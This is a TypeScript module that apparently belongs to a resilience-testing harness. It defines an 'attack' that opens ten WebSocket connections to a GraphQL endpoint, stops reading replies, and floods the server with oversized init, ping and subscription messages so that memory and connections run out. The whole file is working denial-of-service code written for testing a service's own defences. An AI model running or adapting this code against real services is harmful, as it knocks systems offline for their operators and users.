import { once } from "node:events";
import { connect as connectTcp } from "node:net";
import { connect } from "node:tls";
import { WebSocket } from "ws";
import type { Attack, HostileWorld } from "../attack.ts";

const SOCKETS = 10;

/** Messages of a client that reads no responses. */
function* messages(n: number): Generator<object> {
  // The maximum number of values: they take a multiple of their length in memory.
  const values = (bytes: number) => Array.from({ length: bytes / 3 }, () => []);
  if (n % 2 === 0) yield { type: "connection_init", payload: { values: values(7_000) } };
  else yield { type: "connection_init", payload: { values: values(50_000) } };
  for (let m = 0; m < 50; m += 1) yield { type: "ping", payload: { values: values(60_000) } };
  const query = `subscription { changed(organizationId: "x", ids: []) { ids } } # ${"x".repeat(40_000)}`;
  for (let m = 0; m < 50; m += 1)
    yield { id: `${m}`, type: "subscribe", payload: { query, variables: { values: values(10_000) } } };
}

function openSocket({ address }: HostileWorld): WebSocket {
  const { hostname, port } = new URL(address);
  const client = new WebSocket(`${address.replace(/^https/, "wss")}/graphql`, "graphql-transport-ws", {
    rejectUnauthorized: false,
    createConnection: () => {
      const socket = connectTcp({ host: hostname, port: Number(port), localAddress: "127.0.0.2" });
      socket.on("error", () => {});
      return connect({ socket, rejectUnauthorized: false });
    },
  });
  return client.on("error", () => {});
}

/** Each turn leaves connections behind that send and do not read, from an address of the attacker. */
export default {
  title: "WebSockets of strangers that send and do not read",
  async play(world, signal) {
    const clients = Array.from({ length: SOCKETS }, () => openSocket(world));
    const leave = () => clients.forEach((client) => client.terminate());
    signal.addEventListener("abort", leave, { once: true });
    clients.forEach((client, n) =>
      client.once("open", () => {
        client.pause();
        for (const message of messages(n)) client.send(JSON.stringify(message), () => {});
      }),
    );
    // The service must have accepted one of them, otherwise nothing is attacked.
    await Promise.any(clients.map((client) => once(client, "open", { signal }))).catch(() => {
      if (!signal.aborted) throw new Error("No WebSocket was opened.");
    });
    const turn = AbortSignal.any([signal, AbortSignal.timeout(1_000)]);
    await Promise.all(clients.map((client) => once(client, "close", { signal: turn }))).catch(() => {});
    leave();
  },
} satisfies Attack;
